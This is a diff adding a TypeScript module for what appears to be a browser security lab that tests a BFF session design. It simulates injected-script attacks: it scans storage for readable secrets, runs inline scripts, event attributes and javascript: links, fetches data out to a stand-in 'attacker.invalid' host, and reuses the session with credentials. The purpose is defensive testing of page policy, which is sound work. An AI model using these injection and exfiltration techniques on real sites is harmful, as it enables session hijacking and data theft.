@@ -1,0 +1,72 @@
+/**
+ * Attacks that run in this very page, as a script does that was injected into it: each says what it has heard, and the BFF judges.
+ */
+import { csrfHeader, paths } from '@tokenless/bff/contract';
+import { bffOrigin } from '../../http/bff-origin.ts';
+import { readableByScript } from '../../session/readable-by-script.ts';
+
+/** By the attack's id; what is given is the attempt's. */
+export const pageAttacks: Readonly<Record<string, (attempt: string) => Promise<readonly string[]>>> = {
+  'read-storage': readStorage,
+  'injected-script': injectScript,
+  'script-in-the-page': useTheSession,
+};
+
+async function readStorage(): Promise<readonly string[]> {
+  const readOuts = await readableByScript();
+  return readOuts.flatMap(({ place, found }) => found.map((name) => `${place}: ${name}`));
+}
+
+/** Each of these would run, or load, were it not for the page's policy. */
+async function injectScript(attempt: string): Promise<readonly string[]> {
+  const ran: string[] = [];
+  const run = (event: Event) => ran.push((event as CustomEvent<string>).detail);
+  document.addEventListener('lab-ran', run);
+  const code = (how: string) => `document.dispatchEvent(new CustomEvent('lab-ran',{detail:'${how}'}))`;
+  await attemptEach([
+    () => {
+      const script = document.createElement('script');
+      script.append(code('ran: an inline script'));
+      document.body.append(script);
+      script.remove();
+    },
+    () => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', code('ran: an event attribute'));
+      button.click();
+    },
+    async () => {
+      const link = document.createElement('a');
+      link.setAttribute('href', `javascript:${code('ran: a javascript: address')}`);
+      document.body.append(link);
+      link.click();
+      link.remove();
+    },
+    async () => {
+      await fetch(`https://attacker.invalid/?attempt=${attempt}`, { mode: 'no-cors' });
+      ran.push('sent away');
+    },
+  ]);
+  document.removeEventListener('lab-ran', run);
+  return ran;
+}
+
+/** What is left for an injected script: to ask as the page does, while the page is open. */
+async function useTheSession(attempt: string): Promise<readonly string[]> {
+  const answer = await fetch(`${bffOrigin()}${paths.sessions}?attempt=${attempt}.script`, {
+    credentials: 'include',
+    headers: { [csrfHeader.name]: csrfHeader.value },
+  });
+  return [`${answer.status}`, ...(await readStorage())];
+}
+
+/** One failing, which is what is hoped for, keeps none of the others from being tried. */
+async function attemptEach(tries: readonly (() => unknown)[]): Promise<void> {
+  for (const each of tries) {
+    try {
+      await each();
+    } catch {
+      // The policy refused it; the report on its way to the BFF says so.
+    }
+  }
+}
